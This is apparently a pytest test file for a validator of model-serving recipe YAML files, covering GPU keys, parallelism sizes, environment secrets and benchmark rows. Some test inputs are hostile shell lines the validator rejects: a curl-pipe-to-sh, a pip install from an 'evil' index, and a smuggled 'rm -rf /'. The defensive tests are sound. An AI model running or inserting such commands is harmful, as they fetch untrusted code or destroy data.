"""Recipe validation rules: every rejection is checked for where it points (line, col, field)
and what it says.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from support.recipe_checks import HEAD, assert_problem, only_problem, parse, parse_ok, serve

from aim_catalog.recipes.files import load_recipes

# ---------------------------------------------------------------------------------------
# Validation rules

RULES = [
    # (id, text, line, col, field, message fragment)
    ("unknown-status", HEAD + "status: old\n", 6, 1, "status", "must be one of current, retired, got 'old'"),
    (
        "retired-without-reason",
        HEAD + "status: retired\n",
        6,
        1,
        "status",
        "a retired recipe needs retired_reason",
    ),
    (
        "reason-on-a-current-recipe",
        HEAD + "retired_reason: gone\n",
        6,
        1,
        "retired_reason",
        "only a retired recipe has retired_reason; this one's status is current",
    ),
    (
        "retired-on-not-a-date",
        HEAD + "status: retired\nretired_reason: gone\nretired_on: last summer\n",
        8,
        1,
        "retired_on",
        "must be a date (YYYY-MM-DD), got 'last summer'",
    ),
    (
        "setup-not-pip",
        serve("enabled: true\nsetup:\n  - curl -s https://x | sh\n"),
        10,
        9,
        "vllm_serve.4_gpu.setup[0]",
        "is not a pip install line; setup accepts only pip install",
    ),
    (
        "setup-url",
        serve("enabled: true\nsetup:\n  - pip install git+https://github.com/x/y\n"),
        10,
        9,
        "vllm_serve.4_gpu.setup[0]",
        "'git+https://github.com/x/y' is not a package name with an optional version pin",
    ),
    (
        "setup-index-option",
        serve("enabled: true\nsetup:\n  - pip install --index-url https://evil/ amd-quark\n"),
        10,
        9,
        "vllm_serve.4_gpu.setup[0]",
        "pip option '--index-url' is not allowed in setup",
    ),
    (
        "setup-shell",
        serve("enabled: true\nsetup:\n  - pip install amd-quark; rm -rf /\n"),
        10,
        9,
        "vllm_serve.4_gpu.setup[0]",
        "'amd-quark;' is not a package name",
    ),
    (
        "setup-no-package",
        serve("enabled: true\nsetup:\n  - pip install -U\n"),
        10,
        9,
        "vllm_serve.4_gpu.setup[0]",
        "names no package",
    ),
    (
        "setup-not-a-list",
        serve("enabled: true\nsetup: pip install amd-quark\n"),
        9,
        5,
        "vllm_serve.4_gpu.setup",
        "must be a list of at most 20 pip install lines",
    ),
    ("unknown-top-level-key", HEAD + "owner: me\n", 6, 1, "owner", "unknown top-level key 'owner'"),
    (
        "unknown-backend",
        HEAD + "tgi_serve:\n  1_gpu:\n    enabled: true\n",
        6,
        1,
        "tgi_serve",
        "unknown backend 'tgi'; known: vllm, sglang",
    ),
    (
        "bad-recipe-id-characters",
        HEAD.replace("demo-mi300x-bf16", "Demo_MI300X bf16!"),
        1,
        1,
        "recipe_id",
        "'Demo_MI300X bf16!' does not match",
    ),
    (
        "recipe-id-not-a-string",
        HEAD.replace("demo-mi300x-bf16", "42"),
        1,
        1,
        "recipe_id",
        "must be a non-empty string, got int",
    ),
    (
        "empty-model-id",
        HEAD.replace("model_id: Org/Model", 'model_id: ""'),
        2,
        1,
        "model_id",
        "must be a non-empty string, got str",
    ),
    (
        "unknown-precision",
        HEAD.replace("precision: bf16", "precision: fp6"),
        5,
        1,
        "precision",
        "unknown precision 'fp6'; known: fp32, fp16, bf16",
    ),
    (
        "serve-section-not-mapping",
        HEAD + "vllm_serve: [1_gpu]\n",
        6,
        1,
        "vllm_serve",
        "must be a mapping, got a list",
    ),
    (
        "zero-gpu-key",
        serve("enabled: true\n", gpus="0_gpu"),
        7,
        3,
        "vllm_serve.0_gpu",
        "'0_gpu' is not a '<N>_gpu' key with N a positive integer",
    ),
    (
        "x-gpu-key",
        serve("enabled: true\n", gpus="x_gpu"),
        7,
        3,
        "vllm_serve.x_gpu",
        "'x_gpu' is not a '<N>_gpu' key",
    ),
    (
        "leading-zero-gpu-key",
        serve("enabled: true\n", gpus="01_gpu"),
        7,
        3,
        "vllm_serve.01_gpu",
        "'01_gpu' is not a '<N>_gpu' key",
    ),
    (
        "negative-gpu-key",
        serve("enabled: true\n", gpus="-2_gpu"),
        7,
        3,
        "vllm_serve.-2_gpu",
        "'-2_gpu' is not a '<N>_gpu' key",
    ),
    (
        "integer-gpu-key",
        serve("enabled: true\n", gpus="4"),
        7,
        3,
        "vllm_serve[4]",
        "4 is not a '<N>_gpu' key",
    ),
    (
        "config-not-mapping",
        HEAD + "vllm_serve:\n  1_gpu: true\n",
        7,
        3,
        "vllm_serve.1_gpu",
        "must be a mapping, got bool",
    ),
    (
        "missing-enabled",
        serve("args: {--model: Org/Model}\n"),
        7,
        3,
        "vllm_serve.4_gpu",
        "missing required field 'enabled'",
    ),
    (
        "enabled-quoted-yes",
        serve('enabled: "yes"\n'),
        8,
        5,
        "vllm_serve.4_gpu.enabled",
        "must be true or false, got str",
    ),
    (
        "enabled-null",
        serve("enabled:\n"),
        8,
        5,
        "vllm_serve.4_gpu.enabled",
        "must be true or false, got null",
    ),
    (
        "unknown-config-key",
        serve("enabled: true\nreplicas: 2\n"),
        9,
        5,
        "vllm_serve.4_gpu.replicas",
        "unknown key 'replicas'; expected one of enabled, args, image, env, benchmarks",
    ),
    (
        "args-not-mapping",
        serve("enabled: true\nargs: [--model, Org/Model]\n"),
        9,
        5,
        "vllm_serve.4_gpu.args",
        "must be a mapping, got a list",
    ),
    (
        "flag-without-dash",
        serve("enabled: true\nargs:\n  model: Org/Model\n"),
        10,
        7,
        "vllm_serve.4_gpu.args.model",
        "server flag 'model' must start with '-'",
    ),
    (
        "flag-with-space",
        serve("enabled: true\nargs:\n  --max model len: 10\n"),
        10,
        7,
        "vllm_serve.4_gpu.args.--max model len",
        "and have no spaces",
    ),
    (
        "list-valued-flag",
        serve("enabled: true\nargs:\n  --model: [a, b]\n"),
        10,
        7,
        "vllm_serve.4_gpu.args.--model",
        "flag value must be a scalar, got a list",
    ),
    (
        "mapping-valued-flag",
        serve("enabled: true\nargs:\n  --model: {name: a}\n"),
        10,
        7,
        "vllm_serve.4_gpu.args.--model",
        "flag value must be a scalar, got a mapping",
    ),
    (
        "tp-times-pp-exceeds-gpus",
        serve(
            """\
            enabled: true
            args:
              --tensor-parallel-size: "4"
              --pipeline-parallel-size: "2"
            """
        ),
        10,
        7,
        "vllm_serve.4_gpu.args.--tensor-parallel-size",
        "tensor x pipeline parallel size 4 x 2 = 8 exceeds 4 GPU(s)",
    ),
    (
        "tp-exceeds-gpus",
        serve('enabled: true\nargs: {--tensor-parallel-size: "8"}\n', gpus="2_gpu"),
        9,
        12,
        "vllm_serve.2_gpu.args.--tensor-parallel-size",
        "tensor x pipeline parallel size 8 x 1 = 8 exceeds 2 GPU(s)",
    ),
    (
        "sglang-tp-alias-exceeds-gpus",
        serve("enabled: true\nargs: {--tp: 4}\n", gpus="2_gpu", backend="sglang"),
        9,
        12,
        "sglang_serve.2_gpu.args.--tp",
        "4 x 1 = 4 exceeds 2 GPU(s)",
    ),
    (
        "tp-given-twice",
        serve("enabled: true\nargs: {--tensor-parallel-size: 2, -tp: 2}\n"),
        9,
        39,
        "vllm_serve.4_gpu.args.-tp",
        "--tensor-parallel-size and -tp both given",
    ),
    (
        "tp-not-a-number",
        serve('enabled: true\nargs: {--tensor-parallel-size: "four"}\n'),
        9,
        12,
        "vllm_serve.4_gpu.args.--tensor-parallel-size",
        "must be a positive integer, got 'four'",
    ),
    (
        "tp-zero",
        serve("enabled: true\nargs: {--tensor-parallel-size: 0}\n"),
        9,
        12,
        "vllm_serve.4_gpu.args.--tensor-parallel-size",
        "must be a positive integer, got 0",
    ),
    (
        "tp-negative-string",
        serve('enabled: true\nargs: {--tensor-parallel-size: "-2"}\n'),
        9,
        12,
        "vllm_serve.4_gpu.args.--tensor-parallel-size",
        "must be a positive integer, got '-2'",
    ),
    (
        "tp-fractional",
        serve("enabled: true\nargs: {--tensor-parallel-size: 2.5}\n"),
        9,
        12,
        "vllm_serve.4_gpu.args.--tensor-parallel-size",
        "must be a positive integer, got 2.5",
    ),
    (
        "tp-bool",
        serve("enabled: true\nargs: {--tensor-parallel-size: true}\n"),
        9,
        12,
        "vllm_serve.4_gpu.args.--tensor-parallel-size",
        "must be a positive integer, got True",
    ),
    (
        "pp-not-a-number",
        serve("enabled: true\nargs: {--pipeline-parallel-size: two}\n"),
        9,
        12,
        "vllm_serve.4_gpu.args.--pipeline-parallel-size",
        "must be a positive integer, got 'two'",
    ),
    (
        "hf-token-in-env",
        serve("enabled: true\nenv:\n  HF_TOKEN: hf_s3cr3tvalue\n"),
        10,
        7,
        "vllm_serve.4_gpu.env.HF_TOKEN",
        "HF_TOKEN looks like a secret; pass it from the host environment",
    ),
    (
        "api-key-in-env-any-case",
        serve("enabled: true\nenv:\n  openai_api_key: sk-abc\n"),
        10,
        7,
        "vllm_serve.4_gpu.env.openai_api_key",
        "looks like a secret",
    ),
    (
        "bad-env-name",
        serve("enabled: true\nenv:\n  1BAD-NAME: x\n"),
        10,
        7,
        "vllm_serve.4_gpu.env.1BAD-NAME",
        "'1BAD-NAME' is not a valid environment variable name",
    ),
    (
        "env-value-null",
        serve("enabled: true\nenv:\n  VLLM_X:\n"),
        10,
        7,
        "vllm_serve.4_gpu.env.VLLM_X",
        "must be a string or number, got null",
    ),
    (
        "env-not-mapping",
        serve("enabled: true\nenv: [A=1]\n"),
        9,
        5,
        "vllm_serve.4_gpu.env",
        "must be a mapping, got a list",
    ),
    (
        "image-with-space",
        serve("enabled: true\nimage: rocm/vllm latest\n"),
        9,
        5,
        "vllm_serve.4_gpu.image",
        "image reference 'rocm/vllm latest' contains white space",
    ),
    (
        "image-not-string",
        serve("enabled: true\nimage: 7\n"),
        9,
        5,
        "vllm_serve.4_gpu.image",
        "must be a non-empty string, got int",
    ),
    (
        "benchmarks-not-list",
        serve("enabled: true\nbenchmarks: {output_throughput: 1}\n"),
        9,
        5,
        "vllm_serve.4_gpu.benchmarks",
        "must be a list, got a mapping",
    ),
    (
        "benchmark-row-not-mapping",
        serve("enabled: true\nbenchmarks:\n  - 1200.5\n"),
        10,
        9,
        "vllm_serve.4_gpu.benchmarks[0]",
        "must be a mapping, got float",
    ),
    (
        "benchmark-unknown-field",
        serve("enabled: true\nbenchmarks:\n  - output_throughput: 10\n    tokens_per_sec: 10\n"),
        11,
        9,
        "vllm_serve.4_gpu.benchmarks[0].tokens_per_sec",
        "unknown benchmark field 'tokens_per_sec'; known: input_len",
    ),
    (
        "benchmark-negative-metric",
        serve("enabled: true\nbenchmarks:\n  - output_throughput: -1.5\n"),
        10,
        9,
        "vllm_serve.4_gpu.benchmarks[0].output_throughput",
        "must be a non-negative number, got -1.5",
    ),
    (
        "benchmark-bool-metric",
        serve("enabled: true\nbenchmarks:\n  - ttft_ms_p50: true\n"),
        10,
        9,
        "vllm_serve.4_gpu.benchmarks[0].ttft_ms_p50",
        "must be a non-negative number, got True",
    ),
    (
        "benchmark-string-metric",
        serve('enabled: true\nbenchmarks:\n  - output_throughput: "1200"\n'),
        10,
        9,
        "vllm_serve.4_gpu.benchmarks[0].output_throughput",
        "must be a non-negative number, got '1200'",
    ),
    (
        "benchmark-no-metric",
        serve("enabled: true\nbenchmarks:\n  - {input_len: 128, source: me}\n"),
        10,
        9,
        "vllm_serve.4_gpu.benchmarks[0]",
        "a benchmark row needs at least one metric (output_throughput,",
    ),
    (
        "benchmark-zero-concurrency",
        serve("enabled: true\nbenchmarks:\n  - {concurrency: 0, output_throughput: 1}\n"),
        10,
        10,
        "vllm_serve.4_gpu.benchmarks[0].concurrency",
        "must be an integer from 1 to 2147483647, got 0",
    ),
    (
        "benchmark-fractional-input-len",
        serve("enabled: true\nbenchmarks:\n  - {input_len: 1.5, output_throughput: 1}\n"),
        10,
        10,
        "vllm_serve.4_gpu.benchmarks[0].input_len",
        "must be an integer from 1 to 2147483647, got 1.5",
    ),
    (
        "benchmark-empty-source",
        serve('enabled: true\nbenchmarks:\n  - {output_throughput: 1, source: ""}\n'),
        10,
        32,
        "vllm_serve.4_gpu.benchmarks[0].source",
        "must be a non-empty string",
    ),
]


@pytest.mark.parametrize(
    ("text", "line", "col", "field", "fragment"),
    [case[1:] for case in RULES],
    ids=[case[0] for case in RULES],
)
def test_validation_rule(text: str, line: int, col: int, field: str, fragment: str) -> None:
    assert_problem(only_problem(text), line, col, field, fragment)


def test_problem_str_is_path_line_col_field_message() -> None:
    p = only_problem(HEAD.replace("precision: bf16", "precision: fp6"), "recipes/x.yaml")
    assert str(p).startswith("recipes/x.yaml:5:1: precision: unknown precision 'fp6'")


def test_secret_value_never_appears_in_the_problem() -> None:
    p = only_problem(serve("enabled: true\nenv:\n  HF_TOKEN: hf_s3cr3tvalue\n"))
    assert "hf_s3cr3tvalue" not in str(p)


def test_missing_required_fields_are_each_reported() -> None:
    text = "recipe_id: demo\nhardware: MI300X\n"
    doc, problems = parse(text)
    assert doc is None
    assert [(p.line, p.col, p.field, p.message) for p in problems] == [
        (1, 1, "", "missing required field 'model_id'"),
        (1, 1, "", "missing required field 'huggingface_id'"),
        (1, 1, "", "missing required field 'precision'"),
    ]


def test_several_problems_in_one_file_are_all_reported() -> None:
    text = """\
recipe_id: Bad ID
model_id: Org/Model
huggingface_id: Org/Model
hardware: MI300X
precision: fp6
colour: blue
vllm_serve:
  0_gpu:
    enabled: true
  2_gpu:
    enabled: "no"
    args:
      --tensor-parallel-size: "4"
    env:
      HF_TOKEN: x
sglang_serve:
  1_gpu:
    args: {}
"""
    doc, problems = parse(text)
    assert doc is None
    assert [(p.line, p.col, p.field) for p in problems] == [
        (6, 1, "colour"),
        (1, 1, "recipe_id"),
        (5, 1, "precision"),
        (8, 3, "vllm_serve.0_gpu"),
        (11, 5, "vllm_serve.2_gpu.enabled"),
        (13, 7, "vllm_serve.2_gpu.args.--tensor-parallel-size"),
        (15, 7, "vllm_serve.2_gpu.env.HF_TOKEN"),
        (17, 3, "sglang_serve.1_gpu"),
    ]
    assert len(problems) == 8
    assert "exceeds 2 GPU(s)" in problems[5].message
    assert "missing required field 'enabled'" in problems[7].message


def test_problems_in_one_config_do_not_hide_a_sibling_config() -> None:
    text = HEAD + "vllm_serve:\n  1_gpu:\n    enabled: 1\n  2_gpu:\n    enabled: 2\n"
    _, problems = parse(text)
    assert [(p.line, p.field) for p in problems] == [
        (8, "vllm_serve.1_gpu.enabled"),
        (10, "vllm_serve.2_gpu.enabled"),
    ]


@pytest.mark.parametrize("field", ["recipe_id", "model_id", "huggingface_id", "hardware"])
def test_trailing_newline_in_identifier_is_rejected(field: str) -> None:
    lines = HEAD.splitlines()
    index = next(i for i, line in enumerate(lines) if line.startswith(f"{field}:"))
    value = lines[index].split(": ", 1)[1]
    lines[index] = f'{field}: "{value}\\n"'
    p = only_problem("\n".join(lines) + "\n")
    assert_problem(p, index + 1, 1, field, "does not match")


def test_trailing_newline_in_env_name_is_rejected() -> None:
    p = only_problem(serve('enabled: true\nenv:\n  "VLLM_X\\n": "1"\n'))
    # the field path shows the newline escaped: a problem stays on one line
    assert_problem(p, 10, 7, "vllm_serve.4_gpu.env.VLLM_X\\n", "not a valid environment variable")


def test_superscript_digit_parallel_size_is_a_problem() -> None:
    p = only_problem(serve('enabled: true\nargs: {--tensor-parallel-size: "²"}\n'))
    assert_problem(p, 9, 12, "vllm_serve.4_gpu.args.--tensor-parallel-size", "must be a positive integer")


# ---------------------------------------------------------------------------------------
# Valid edge cases


def test_minimal_recipe_without_serve_sections() -> None:
    doc = parse_ok(HEAD)
    assert (doc.recipe_id, doc.model_id, doc.hardware, doc.precision) == (
        "demo-mi300x-bf16",
        "Org/Model",
        "MI300X",
        "bf16",
    )
    assert doc.serve_configs == []
    assert doc.document["recipe_id"] == "demo-mi300x-bf16"


def test_bare_flag_values_are_kept_as_given() -> None:
    doc = parse_ok(
        serve(
            """\
            enabled: true
            args:
              --trust-remote-code: "true"
              --enforce-eager: true
              --disable-log-requests:
              --enable-chunked-prefill: ~
              --no-thing: false
              --other-thing: "false"
              --port: 8000
              --gpu-memory-utilization: 0.9
            """
        )
    )
    (config,) = doc.serve_configs
    assert config.args == {
        "--trust-remote-code": "true",
        "--enforce-eager": True,
        "--disable-log-requests": None,
        "--enable-chunked-prefill": None,
        "--no-thing": False,
        "--other-thing": "false",
        "--port": 8000,
        "--gpu-memory-utilization": 0.9,
    }
    assert list(config.args)[:3] == [  # the file's order is kept
        "--trust-remote-code",
        "--enforce-eager",
        "--disable-log-requests",
    ]


def test_measured_at_date_becomes_an_iso_string() -> None:
    doc = parse_ok(
        serve(
            """\
            enabled: true
            benchmarks:
              - {output_throughput: 1200, measured_at: 2025-11-03}
              - {output_throughput: 900, measured_at: 2025-11-03 10:30:00}
            """
        )
    )
    first, second = doc.serve_configs[0].benchmarks
    assert first == {"output_throughput": 1200.0, "measured_at": "2025-11-03"}
    assert isinstance(first["output_throughput"], float)
    assert second["measured_at"] == "2025-11-03T10:30:00"


def test_full_benchmark_row_is_kept() -> None:
    doc = parse_ok(
        serve(
            """\
            enabled: true
            benchmarks:
              - input_len: 128
                output_len: 2048
                concurrency: 64
                output_throughput: 5000
                total_token_throughput: 5312.5
                request_throughput: 2.5
                ttft_ms_p50: 0
                e2el_ms_p99: 12000
                source: synthetic
                image: rocm/vllm:latest
            """
        )
    )
    (row,) = doc.serve_configs[0].benchmarks
    assert row == {
        "input_len": 128,
        "output_len": 2048,
        "concurrency": 64,
        "output_throughput": 5000.0,
        "total_token_throughput": 5312.5,
        "request_throughput": 2.5,
        "ttft_ms_p50": 0.0,
        "e2el_ms_p99": 12000.0,
        "source": "synthetic",
        "image": "rocm/vllm:latest",
    }


def test_hardware_is_upper_cased() -> None:
    doc = parse_ok(HEAD.replace("hardware: MI300X", "hardware: mi325x"))
    assert doc.hardware == "MI325X"
    assert doc.document["hardware"] == "mi325x"  # the document itself is kept as written


def test_parallel_sizes_whose_product_equals_n_are_accepted() -> None:
    doc = parse_ok(
        serve(
            """\
            enabled: true
            args:
              --tensor-parallel-size: 2
              --pipeline-parallel-size: "2"
            """
        )
    )
    assert doc.serve_configs[0].gpu_count == 4


def test_parallel_size_below_n_is_accepted() -> None:
    doc = parse_ok(serve('enabled: true\nargs: {--tensor-parallel-size: "2"}\n', gpus="8_gpu"))
    assert doc.serve_configs[0].args == {"--tensor-parallel-size": "2"}


def test_extensions_image_env_and_sglang_section() -> None:
    text = (
        serve(
            """\
            enabled: false
            image: rocm/vllm:rocm7.0.0_vllm_0.11.1_20251103
            env: {VLLM_ROCM_USE_AITER: "1", NUMERIC: 2, FLAG: true}
            """
        )
        + "sglang_serve:\n  8_gpu:\n    enabled: true\n    args: {--tp: 8}\n"
    )
    doc = parse_ok(text)
    vllm, sglang = doc.serve_configs
    assert (vllm.backend, vllm.gpu_count, vllm.enabled) == ("vllm", 4, False)
    assert vllm.image == "rocm/vllm:rocm7.0.0_vllm_0.11.1_20251103"
    assert vllm.env == {"VLLM_ROCM_USE_AITER": "1", "NUMERIC": "2", "FLAG": "true"}
    # --tp is argparse's unique prefix of SGLang's --tp-size: stored under the canonical name
    assert (sglang.backend, sglang.gpu_count, sglang.args) == ("sglang", 8, {"--tp-size": 8})


def test_empty_optional_sections_are_accepted() -> None:
    doc = parse_ok(serve("enabled: true\nargs:\nenv:\nimage:\nbenchmarks:\n"))
    (config,) = doc.serve_configs
    assert (config.args, config.env, config.image, config.benchmarks) == ({}, {}, None, [])


def test_quoted_gpu_key_and_large_n_are_accepted() -> None:
    doc = parse_ok(serve("enabled: true\n", gpus='"9999_gpu"'))
    assert doc.serve_configs[0].gpu_count == 9999


def test_scenario_values_must_fit_an_sql_integer() -> None:
    text = (
        HEAD
        + "vllm_serve:\n  1_gpu:\n    enabled: true\n    benchmarks:\n"
        + "      - {concurrency: 4294967296, output_throughput: 1}\n"
    )
    p = only_problem(text)
    assert p.field == "vllm_serve.1_gpu.benchmarks[0].concurrency"
    assert "must be an integer from 1 to 2147483647" in p.message


@pytest.mark.parametrize("secret_name", ["HF_TOKEN", "MY_API_KEY", "DB_PASSWORD"])
def test_secrets_in_recipe_env_are_refused(write_recipe: Callable[..., Path], secret_name: str) -> None:
    path = write_recipe("s", configs={"vllm": {1: {"enabled": True, "env": {secret_name: "hunter2"}}}})
    recipes, problems, _ = load_recipes([path])
    assert recipes == []
    assert "looks like a secret" in problems[0].message
    assert "hunter2" not in str(problems[0])


def test_values_longer_than_their_columns_are_refused_with_a_location(
    write_recipe: Callable[..., Path],
) -> None:
    long_model = "org/" + "m" * 400
    path = write_recipe("long", model=long_model)
    _, problems, _ = load_recipes([path])
    fields = {(p.field, p.line) for p in problems}
    assert fields == {("model_id", 2), ("huggingface_id", 3)}
    assert all("at most 300" in p.message for p in problems)


def test_messages_quote_at_most_a_little_of_a_huge_value(write_recipe: Callable[..., Path]) -> None:
    huge = "9" * 100_000
    path = write_recipe("h", text_=f"recipe_id: h\nprecision: {huge}\n")
    _, problems, _ = load_recipes([path])
    assert max(len(str(p)) for p in problems) < 500


def test_status_and_setup_are_parsed() -> None:
    """A retired recipe keeps why and when; setup lines keep their order, white space collapsed."""
    recipe = parse_ok(
        HEAD
        + "status: retired\nretired_reason: 'InferenceX retired it (PR #2101)'\nretired_on: 2026-07-06\n"
        + "vllm_serve:\n  4_gpu:\n    enabled: true\n    setup:\n"
        + "      - pip  install amd-quark\n      - pip install -U transformers>=4.57,<5 torchao[dev]==0.1\n"
    )
    assert (recipe.status, recipe.retired_reason, str(recipe.retired_on)) == (
        "retired",
        "InferenceX retired it (PR #2101)",
        "2026-07-06",
    )
    assert recipe.serve_configs[0].setup == (
        "pip install amd-quark",
        "pip install -U transformers>=4.57,<5 torchao[dev]==0.1",
    )
    assert parse_ok(HEAD).status == "current" and parse_ok(HEAD).retired_on is None
